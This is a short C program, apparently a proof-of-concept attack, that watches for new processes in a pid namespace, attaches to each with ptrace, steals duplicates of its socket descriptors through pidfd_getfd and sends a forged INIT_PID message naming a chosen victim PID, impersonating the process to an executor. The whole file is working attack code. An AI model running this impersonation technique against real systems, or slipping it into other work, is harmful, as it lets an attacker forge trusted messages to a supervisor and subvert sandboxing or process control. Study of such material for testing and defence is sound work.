/*
 * Seize each new process of this pid namespace, take duplicates of its sockets and send a message
 * of the executor through them, as the process itself would.
 *
 *   forge PID
 *
 * The message is INIT_PID with the number PID, sent twice: the first may be the one expected.
 * Prints "forged" once a message went out.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define AHEAD 16 /* how many numbers beyond the last process are tried */
#define MESSAGE_INIT_PID 3
#define DESCRIPTORS 64

struct message {
	uint32_t kind, value;
	int32_t pid, error;
};

static bool forge(int pidfd, int victim)
{
	const struct message message = { MESSAGE_INIT_PID, 0, victim, 0 };
	bool sent = false;

	for (int fd = 0; fd < DESCRIPTORS; fd++) {
		int own = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);

		if (own < 0)
			continue;
		for (int i = 0; i < 2; i++)
			if (send(own, &message, sizeof(message), MSG_NOSIGNAL | MSG_DONTWAIT) > 0)
				sent = true;
		close(own);
	}
	return sent;
}

int main(int argc, char **argv)
{
	int self = getpid(), next = self + 1, victim = argc > 1 ? atoi(argv[1]) : 0, status;
	bool told = false;

	puts("forging");
	fflush(stdout);
	for (;;) {
		for (int pid = next; pid < next + AHEAD; pid++) {
			int pidfd;

			if (kill(pid, 0) < 0 && errno == ESRCH)
				continue;
			if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
				continue;
			next = pid + 1;
			pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
			if (pidfd >= 0 && forge(pidfd, victim) && !told) {
				told = true;
				puts("forged");
				fflush(stdout);
			}
			close(pidfd);
			ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
			if (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status))
				ptrace(PTRACE_DETACH, pid, NULL, NULL);
		}
	}
}
